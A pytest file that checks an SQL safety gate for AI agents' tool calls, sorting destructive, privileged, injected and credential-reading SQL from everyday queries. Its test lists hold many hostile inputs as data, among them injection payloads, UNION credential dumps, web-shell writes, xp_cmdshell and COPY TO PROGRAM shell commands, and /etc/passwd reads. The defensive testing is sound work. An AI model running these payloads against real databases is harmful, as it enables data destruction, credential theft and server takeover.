"""tool-sql through the real gate: destructive, privileged, injected and credential-reading SQL
is stopped, everyday SQL runs, and no input makes the check raise or approve what it hides."""

from __future__ import annotations

import time
from typing import Any

import pytest
from tool_helpers import decide

from humangr.contracts import Outcome, ToolKind
from humangr.engine.checks.tools.sql import review_sql

REJECTED, REVIEW, APPROVED = Outcome.REJECTED, Outcome.NEEDS_REVIEW, Outcome.APPROVED

DANGEROUS: list[tuple[str, Outcome, str]] = [
    (
        "DELETE FROM audit_log WHERE created_at < '2100-01-01'",
        REJECTED,
        "audit records deleted behind a WHERE that matches them all",
    ),
    ("UPDATE audit_trail SET actor = 'system' WHERE id > 100", REVIEW, "audit records changed"),
    ("DROP TABLE users", REJECTED, "drops a table and its data"),
    ("drop table customers;", REJECTED, "lower case and a trailing semicolon"),
    ("DROP TABLE IF EXISTS orders", REJECTED, "IF EXISTS does not make a real table scratch"),
    ("DROP DATABASE IF EXISTS production", REJECTED, "drops a database"),
    ("DROP SCHEMA public CASCADE", REJECTED, "drops a schema and everything in it"),
    ("TRUNCATE TABLE orders", REJECTED, "empties a table"),
    ("TRUNCATE users, orders RESTART IDENTITY CASCADE", REJECTED, "empties several tables"),
    ("DELETE FROM users", REJECTED, "DELETE without WHERE"),
    ("DELETE users", REJECTED, "DELETE without FROM or WHERE"),
    ("DELETE FROM users WHERE 1=1", REJECTED, "tautological WHERE"),
    ("DELETE FROM orders WHERE 1", REJECTED, "MySQL's truthy WHERE"),
    ("DELETE FROM users WHERE 'a'='a'", REJECTED, "string tautology"),
    ("DELETE FROM users WHERE id = 5 OR 1=1", REJECTED, "OR with a tautology keeps every row"),
    ("DELETE FROM users WHERE TRUE", REJECTED, "WHERE TRUE"),
    ("UPDATE accounts SET balance = 0", REJECTED, "UPDATE without WHERE"),
    (
        "DELETE FROM users WHERE id IN (SELECT id FROM users)",
        REJECTED,
        "a subquery of the same table with no WHERE: every row",
    ),
    (
        "DELETE FROM orders WHERE created_at IS NOT NULL OR created_at IS NULL",
        REJECTED,
        "NULL or not NULL: every row",
    ),
    ("DELETE FROM orders WHERE EXISTS (SELECT 1)", REVIEW, "a WHERE that reads no column"),
    (
        "UPDATE users SET active = false WHERE (SELECT count(*) FROM flags) > 0",
        REVIEW,
        "an uncorrelated subquery: every row or none",
    ),
    (
        "DELETE FROM orders WHERE EXISTS (SELECT 1 FROM archive a WHERE a.flag = 1)",
        REVIEW,
        "the subquery reads other tables only",
    ),
    ("UPDATE users SET email = 'x@y.com' WHERE 1=1", REJECTED, "UPDATE with a tautology"),
    ("UPDATE users SET password = 'hacked'", REJECTED, "resets every password"),
    ("ALTER TABLE users DROP COLUMN email", REJECTED, "drops a column and its data"),
    ("ALTER TABLE sales DROP PARTITION p2023", REJECTED, "drops a partition"),
    ("GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%'", REJECTED, "privilege change"),
    ("GRANT rds_superuser TO app_user", REJECTED, "grants an admin role"),
    ("GRANT SELECT ON users TO PUBLIC", REJECTED, "reads granted to everyone"),
    ("GRANT SELECT ON orders TO bi WITH GRANT OPTION", REJECTED, "the right to pass it on"),
    ("GRANT INSERT ON ALL TABLES IN SCHEMA public TO etl", REJECTED, "writes on every table"),
    ("GRANT SELECT, UPDATE ON orders TO app", REVIEW, "rights to change data"),
    ("GRANT SELECT ON ALL TABLES IN SCHEMA public TO analytics", REVIEW, "reads of every table"),
    ("GRANT reporting_reader TO alice", REVIEW, "a role granted to a user"),
    ("DELETE FROM payments WHERE id > 0", REVIEW, "every generated key is positive"),
    (
        "SELECT t.token, u.email FROM api_tokens t JOIN users u ON u.id = t.user_id "
        "WHERE t.revoked_at IS NULL",
        REJECTED,
        "every live token read",
    ),
    ("UPDATE users SET plan = 'free' WHERE user_id >= 1", REVIEW, "every key is at least 1"),
    ("ALTER SHARE core_share ADD ACCOUNTS = PARTNERORG.QX84120", REVIEW, "data shared out"),
    (
        "EXPORT DATA OPTIONS (uri = 'gs://swap-2291/c-*.csv', format = 'CSV') AS "
        "SELECT * FROM crm.customers",
        REVIEW,
        "a table exported to a bucket",
    ),
    ("UNLOAD ('select * from customers') TO 's3://x-bucket/c_'", REVIEW, "Redshift unload"),
    ("REVOKE ALL ON DATABASE app FROM app_user", REJECTED, "privilege change"),
    ("ALTER USER bob WITH SUPERUSER", REJECTED, "makes a superuser"),
    ("ALTER USER 'root'@'localhost' IDENTIFIED BY 'newpass'", REJECTED, "changes a password"),
    ("CREATE USER intruder WITH PASSWORD 'x'", REJECTED, "creates a login"),
    ("CREATE ROLE hacker WITH LOGIN SUPERUSER", REJECTED, "creates a superuser role"),
    ("SET ROLE postgres", REJECTED, "switches to the admin role"),
    ("DROP USER admin", REJECTED, "drops a login"),
    ("EXEC sp_addsrvrolemember 'hacker', 'sysadmin'", REJECTED, "adds a sysadmin"),
    ("SELECT * FROM users; DROP TABLE users", REJECTED, "stacked DROP after a read"),
    ("SELECT name FROM items WHERE id = 5; UPDATE users SET role = 'admin'", REJECTED, "stacked"),
    (
        "SELECT * FROM users WHERE name = '' OR '1'='1' -- ' AND pass = ''",
        REJECTED,
        "tautology and comment truncation",
    ),
    ("SELECT * FROM users WHERE name = 'admin'--' AND password = 'x'", REJECTED, "admin'--"),
    ("SELECT * FROM users WHERE username = 'admin' OR '1'='1'", REJECTED, "injected login"),
    ("SELECT * FROM accounts WHERE user = 'x' OR 'a'='a'", REJECTED, "tautology on accounts"),
    ("admin' OR 1=1 --", REJECTED, "an injection payload on its own"),
    ("' OR '1'='1", REJECTED, "the classic payload"),
    ("'; DROP TABLE users; --", REJECTED, "stacked payload"),
    ("1' UNION SELECT username, password FROM users --", REJECTED, "UNION payload"),
    ("SELECT id FROM t UNION SELECT password FROM users", REJECTED, "UNION reads passwords"),
    (
        "SELECT title FROM posts WHERE id = -1 UNION ALL SELECT concat(username, ':', password) "
        "FROM users",
        REJECTED,
        "UNION reads credentials through a function",
    ),
    ("SELECT password, email FROM users", REJECTED, "bulk read of passwords"),
    ("SELECT id, api_key FROM integrations", REJECTED, "bulk read of API keys"),
    ("SELECT access_token, refresh_token FROM oauth_tokens", REJECTED, "bulk read of tokens"),
    ("SELECT usename, passwd FROM pg_shadow", REJECTED, "PostgreSQL's password table"),
    ("SELECT user, authentication_string FROM mysql.user", REJECTED, "MySQL's password table"),
    ("SELECT card_number, cvv FROM payments", REJECTED, "card data in bulk"),
    ("SELECT * FROM users INTO OUTFILE '/tmp/x'", REJECTED, "writes a server file"),
    (
        "SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'",
        REJECTED,
        "web shell",
    ),
    ("COPY users TO PROGRAM 'curl http://x'", REJECTED, "runs a shell command"),
    ("COPY cmd FROM PROGRAM 'id'", REJECTED, "runs a shell command"),
    ("EXEC xp_cmdshell 'dir'", REJECTED, "runs a shell command"),
    ("EXEC master..xp_cmdshell 'whoami'", REJECTED, "runs a shell command"),
    ("SELECT LOAD_FILE('/etc/passwd')", REJECTED, "reads a server file"),
    ("SELECT pg_read_file('/etc/passwd')", REJECTED, "reads a server file"),
    ("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", REJECTED, "loads a system file"),
    (
        "CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C",
        REJECTED,
        "native code on the server",
    ),
    ("SET GLOBAL general_log_file = '/var/www/shell.php'", REJECTED, "log-file web shell"),
    ("EXPLAIN ANALYZE DELETE FROM users", REJECTED, "EXPLAIN ANALYZE runs the DELETE"),
    ("EXEC('DROP TABLE users')", REJECTED, "dynamic SQL"),
    ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", REJECTED, "DELETE in a CTE"),
    ("SHUTDOWN", REJECTED, "stops the server"),
    ("ATTACH DATABASE '/var/www/html/shell.php' AS x", REJECTED, "SQLite web shell"),
    ("DROP TABLE IF EXISTS tmp_results", REVIEW, "a scratch table: risky, not irreversible"),
    ("DROP INDEX idx_orders_customer", REVIEW, "an index can be rebuilt"),
    ("DROP VIEW active_users", REVIEW, "a view holds no data"),
    ("UPDATE users SET role = 'admin' WHERE id = 5", REVIEW, "application-level escalation"),
    ("DELETE FROM t LIMIT 10", REVIEW, "no WHERE, but a LIMIT"),
    ("SELECT email, password_hash FROM users LIMIT 5", REVIEW, "a few password hashes"),
    (
        "SELECT name FROM products WHERE id = 1 UNION SELECT NULL, NULL, NULL",
        REVIEW,
        "UNION padding: the shape of an injection probe",
    ),
    (
        "SELECT id FROM t WHERE id = 1 UNION SELECT table_name FROM information_schema.tables",
        REVIEW,
        "schema enumeration",
    ),
    ("SELECT * FROM t WHERE id = 1 AND SLEEP(5)", REVIEW, "time-based injection"),
    ("ALTER TABLE users RENAME TO people", REVIEW, "breaks every reader"),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
        REVIEW,
        "deletes rows missing from the source",
    ),
    ("COPY (SELECT * FROM orders) TO '/tmp/orders.csv'", REVIEW, "writes a server file"),
    ("105 OR 1=1", REVIEW, "an expression, no statement: an injection fragment"),
    ("this is not sql at all", REVIEW, "could not read this SQL"),
]

EVERYDAY: list[tuple[str, str]] = [
    ("GRANT SELECT ON reporting.daily_visits TO analytics_ro;", "read of one view to a role"),
    ("GRANT USAGE ON SCHEMA reporting TO analytics_ro", "a schema looked into"),
    ("DELETE FROM payments WHERE id > 1000 AND status = 'void'", "a range of keys"),
    ("SELECT token FROM api_tokens WHERE user_id = $1 AND revoked_at IS NULL", "one user's"),
    ("INSERT INTO audit_log (actor, action) VALUES ($1, $2)", "an audit record written"),
    ("SELECT * FROM t WHERE id = %s", "parameterised (psycopg)"),
    ("SELECT * FROM t WHERE id = %(id)s AND name = %(name)s", "named pyformat"),
    ("SELECT * FROM t WHERE id = ?", "qmark"),
    ("SELECT * FROM t WHERE id = :id", "named"),
    ("SELECT * FROM t WHERE id = $1", "numbered"),
    ("SELECT count(*) FROM orders", "aggregate"),
    ("SELECT COUNT(*) AS n, status FROM orders GROUP BY status", "aggregate by group"),
    ("INSERT INTO t (a, b) VALUES (1, 'x')", "insert"),
    ("INSERT INTO users (name, email) VALUES (?, ?) RETURNING id", "insert returning"),
    ("UPDATE users SET name = ? WHERE id = 7", "update one row"),
    ("UPDATE inventory SET qty = qty - 1 WHERE sku = 'ABC-1' AND qty > 0", "update by key"),
    ("DELETE FROM sessions WHERE expires_at < now()", "purge expired rows"),
    ("DELETE FROM logs WHERE created_at < NOW() - INTERVAL '30 days'", "retention"),
    ("DELETE FROM users WHERE id = 42", "delete one row"),
    (
        "DELETE FROM orders WHERE NOT EXISTS (SELECT 1 FROM customers WHERE customers.id = "
        "customer_id)",
        "orphans: the unqualified column may be the row's",
    ),
    (
        "DELETE FROM orders o WHERE EXISTS (SELECT 1 FROM refunds r WHERE r.order_id = o.id)",
        "a correlated subquery by alias",
    ),
    ("DELETE FROM orders WHERE id IN (SELECT order_id FROM refunds)", "ids from another table"),
    (
        "DELETE FROM orders WHERE id IN (SELECT id FROM orders WHERE status = 'void')",
        "a subquery of the same table that filters",
    ),
    ("UPDATE users SET name = 'x' WHERE email IS NULL", "only rows without an e-mail"),
    ("DELETE FROM t WHERE a IS NULL OR b IS NOT NULL", "two different columns"),
    ("CREATE TABLE t (id int primary key, name text)", "create table"),
    ("CREATE INDEX idx ON t(a)", "create index"),
    ("CREATE INDEX CONCURRENTLY IF NOT EXISTS idx_o ON orders (customer_id)", "online index"),
    ("ALTER TABLE orders ADD COLUMN notes TEXT", "additive DDL"),
    ("EXPLAIN SELECT * FROM orders WHERE customer_id = 5", "plan only"),
    ("EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM orders WHERE id = 1", "analyze of a read"),
    ("BEGIN", "transaction"),
    ("COMMIT", "transaction"),
    ("SELECT * FROM products LIMIT 50", "bounded read"),
    ("SELECT * FROM users LIMIT 10", "a look at a few rows"),
    ("SELECT * FROM users", "every column of a table is no credential read by name"),
    ("SELECT * FROM users WHERE id = 1", "one user"),
    ("SELECT password_hash FROM users WHERE email = ?", "a login check"),
    ("SELECT COUNT(*) FROM users WHERE password_hash IS NULL", "counts, no values"),
    ("SHOW TABLES", "metadata"),
    ("DESCRIBE users", "metadata"),
    ("PRAGMA table_info(users)", "metadata"),
    ("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'", "schema"),
    ("SELECT version()", "server version"),
    ("SET search_path TO analytics, public", "session setting"),
    ("SET ROLE readonly", "dropping privileges"),
    ("SELECT 1 FROM dual WHERE 1=1 AND x = ?", "query-builder WHERE 1=1"),
    ("SELECT * FROM t WHERE x = 1 -- don't forget", "a comment with an apostrophe"),
    (
        "BEGIN; UPDATE accounts SET balance = balance - 10 WHERE id = 1; "
        "UPDATE accounts SET balance = balance + 10 WHERE id = 2; COMMIT;",
        "a transfer",
    ),
    (
        "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') "
        "SELECT count(*) FROM recent",
        "CTE",
    ),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET t.v = s.v "
        "WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)",
        "upsert by MERGE",
    ),
    (
        "INSERT INTO kv (k, v) VALUES ('a', 'b') ON CONFLICT (k) DO UPDATE SET v = EXCLUDED.v",
        "upsert",
    ),
    ("REPLACE INTO t VALUES (1)", "MySQL replace"),
    ("SELECT TOP 5 * FROM [dbo].[Orders] ORDER BY OrderDate DESC", "T-SQL"),
    ("SELECT * FROM `orders` WHERE `id` = 1", "MySQL quoting"),
    ("SELECT data->>'name' FROM events WHERE data->>'type' = 'click'", "JSON operators"),
    ("SELECT id FROM t1 UNION SELECT id FROM t2", "an ordinary UNION"),
    (
        "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id "
        "WHERE o.created_at > now() - interval '7 days'",
        "join",
    ),
    ("VACUUM ANALYZE orders", "maintenance"),
    ("COPY orders TO STDOUT WITH CSV HEADER", "export to the client"),
    ("DROP TEMPORARY TABLE tmp", "a session's temporary table"),
    ("DROP TABLE #tmp", "T-SQL temporary table"),
    ("CREATE TEMP TABLE tmp_ids AS SELECT id FROM users WHERE active", "temp table"),
    ("LOAD DATA LOCAL INFILE 'data.csv' INTO TABLE t", "bulk import of the agent's file"),
    ("ATTACH DATABASE 'other.db' AS o", "SQLite attach"),
    ("CALL refresh_stats()", "a procedure"),
    ("SELECT * FROM orders FOR UPDATE SKIP LOCKED LIMIT 1", "queue pattern"),
    ("UPDATE products SET price = price * 1.1 WHERE category = 'books'", "a broad WHERE"),
    ("SELECT u.id, u.email FROM users u WHERE u.created_at > '2024-01-01'", "filtered read"),
    ("SELECT username FROM users WHERE username LIKE 'a%' ORDER BY username", "LIKE"),
    ("REFRESH MATERIALIZED VIEW CONCURRENTLY daily_stats", "refresh"),
    ("SELECT * FROM generate_series(1, 10)", "table function"),
]


@pytest.mark.parametrize(("sql", "expected", "reason"), DANGEROUS)
def test_dangerous_sql_is_stopped(sql: str, expected: Outcome, reason: str) -> None:
    outcome, findings, _ = decide("run_sql", {"query": sql})
    assert outcome is expected, (reason, [(f.severity, f.title) for f in findings])
    assert any(f.argument == "query" for f in findings), reason


@pytest.mark.parametrize(("sql", "reason"), EVERYDAY)
def test_everyday_sql_runs(sql: str, reason: str) -> None:
    outcome, findings, _ = decide("run_sql", {"query": sql})
    assert outcome is APPROVED, (reason, [(f.severity, f.title) for f in findings])
    assert findings == [], reason


SHAPES: list[tuple[str, dict[str, Any], ToolKind | None, Outcome, str]] = [
    ("mcp__postgres__query", {"sql": "DROP TABLE users"}, None, REJECTED, "MCP tool's sql"),
    ("mcp__postgres__query", {"sql": "SELECT 1"}, None, APPROVED, "MCP everyday"),
    (
        "execute",
        {"statements": ["BEGIN", "DELETE FROM users", "COMMIT"]},
        ToolKind.SQL,
        REJECTED,
        "a statement list",
    ),
    (
        "db",
        {"statement": "TRUNCATE orders", "database": "analytics"},
        ToolKind.SQL,
        REJECTED,
        "statement argument",
    ),
    (
        "run_sql",
        {"query": "ALTER TABLE orders ADD COLUMN n int", "database": "prod-main"},
        None,
        REVIEW,
        "schema change in production",
    ),
    (
        "run_sql",
        {"query": "UPDATE orders SET n = 1 WHERE id = 3", "environment": "production"},
        None,
        APPROVED,
        "one row picked by its key in production",
    ),
    (
        "run_sql",
        {"query": "UPDATE orders SET n = 1 WHERE n = 3", "environment": "production"},
        None,
        REVIEW,
        "a class of rows changed in production",
    ),
    (
        "run_sql",
        {"query": "SELECT * FROM t WHERE id = 1", "environment": "production"},
        None,
        APPROVED,
        "a bounded read in production",
    ),
    (
        "run_query",
        {"sql": "SELECT id, email, phone FROM customers LIMIT 100", "database": "production"},
        None,
        REVIEW,
        "many people's records read in production",
    ),
    (
        "run_query",
        {"sql": "SELECT id, email FROM customers LIMIT 5", "database": "production"},
        None,
        APPROVED,
        "a few people's records read in production",
    ),
    (
        "run_query",
        {"sql": "SELECT id, email FROM customers LIMIT 100", "database": "staging"},
        None,
        APPROVED,
        "people's records read outside production",
    ),
    (
        "run_sql",
        {"query": "SELECT TOP 5 * FROM [x]", "dialect": "mssql"},
        None,
        APPROVED,
        "the dialect argument is used",
    ),
    (
        "http_request",
        {
            "url": "https://dbc.cloud.databricks.com/api/2.0/sql/statements",
            "method": "POST",
            "json": {"statement": "DROP TABLE sales"},
        },
        None,
        REJECTED,
        "SQL in an HTTP body",
    ),
    (
        "http_request",
        {"url": "http://clickhouse.example.com:8123/?query=DROP%20TABLE%20events"},
        None,
        REJECTED,
        "SQL in a URL's query parameter",
    ),
    (
        "notes",
        {"text": "Delete old files and update dependencies"},
        None,
        APPROVED,
        "English that starts with SQL words is not SQL",
    ),
    ("WebSearch", {"query": "DROP TABLE users syntax"}, None, APPROVED, "a search is no query"),
    (
        "create_issue",
        {"title": "Drop support for Python 3.8", "body": "Update the docs"},
        None,
        APPROVED,
        "an issue title",
    ),
]


SHAPES += [
    (
        "http_request",
        {"url": "https://shop.example.com/item?id=1' OR '1'='1"},
        None,
        REJECTED,
        "an injection payload in a URL's query",
    ),
    (
        "http_request",
        {
            "url": "https://shop.example.com/item?id=1%27%20UNION%20SELECT%20username,"
            "password%20FROM%20users--"
        },
        None,
        REJECTED,
        "an encoded UNION payload",
    ),
    (
        "http_request",
        {
            "url": "https://shop.example.com/login",
            "method": "POST",
            "data": {"username": "admin'--", "password": "x"},
        },
        None,
        REJECTED,
        "a payload in a login form",
    ),
    (
        "browser_fill",
        {"selector": "#user", "value": "' OR 1=1 --"},
        None,
        REJECTED,
        "a payload typed into a page",
    ),
    (
        "http_request",
        {
            "url": "https://api.example.com/x",
            "method": "POST",
            "json": {"comment": "It's great -- really; and cheap"},
        },
        None,
        APPROVED,
        "prose with quotes and dashes",
    ),
    (
        "http_request",
        {"url": "https://api.example.com/x?q=Tom's and Jerry's"},
        None,
        APPROVED,
        "a search for a title with apostrophes",
    ),
    (
        "tool",
        {"text": "DROP TABLE users; " + "-- pad\n" * 5000},
        None,
        REJECTED,
        "a long string whose first statement is destructive",
    ),
]


@pytest.mark.parametrize(("name", "arguments", "kind", "expected", "reason"), SHAPES)
def test_sql_found_where_tools_put_it(
    name: str, arguments: dict[str, Any], kind: ToolKind | None, expected: Outcome, reason: str
) -> None:
    outcome, findings, _ = decide(name, arguments, kind=kind)
    assert outcome is expected, (reason, [(f.severity, f.title) for f in findings])


def test_finding_names_the_list_item() -> None:
    _, findings, reasons = decide(
        "execute", {"statements": ["SELECT 1", "DROP TABLE users"]}, kind=ToolKind.SQL
    )
    assert [f.argument for f in findings if f.argument] == ["statements[1]"]
    assert any("statements[1]" in r for r in reasons)


HOSTILE: list[tuple[str, str]] = [
    ("SELECT 1;" * 60_000 + " DROP TABLE users", "a megabyte of SQL hiding a DROP at the end"),
    ("INSERT INTO t VALUES " + ",".join(f"({i}, 'x')" for i in range(40_000)), "huge insert"),
    ("SELECT " + "(" * 5000 + "1" + ")" * 5000, "deep nesting"),
    ("SELECT '" + "a" * 300_000, "an unterminated quote over the size limit"),
    ("/*" * 10_000, "unterminated comments"),
    ("$$" + "x" * 1000, "unterminated dollar quote"),
    ("\x00\x01\x02 DROP TABLE users", "control characters"),
    ("ＤＲＯＰ ＴＡＢＬＥ users", "full-width letters"),
    (";;;;;;", "only separators"),
    ("SELECT * FROM t WHERE a = '\\'' OR 1=1 --", "backslash escapes"),
]


@pytest.mark.parametrize(("sql", "reason"), HOSTILE)
def test_hostile_sql_never_raises_nor_hides(sql: str, reason: str) -> None:
    start = time.perf_counter()
    issues = review_sql(sql)
    assert time.perf_counter() - start < 10, reason
    if "DROP TABLE users" in sql[-40:] or len(sql) > 250_000 or sql.startswith(("/*", "$$")):
        assert issues, reason
    assert all(i.title for i in issues)


def test_megabyte_sql_is_not_approved() -> None:
    outcome, _, _ = decide("run_sql", {"query": "SELECT 1;" * 120_000 + "DROP TABLE users"})
    assert outcome is not APPROVED


def test_sql_beyond_the_limit_is_not_approved() -> None:
    outcome, findings, _ = decide("run_sql", {"query": "SELECT 1 " + " " * 300_000 + ";SELECT 2"})
    assert outcome is REVIEW
    assert any("characters were read" in f.title for f in findings)
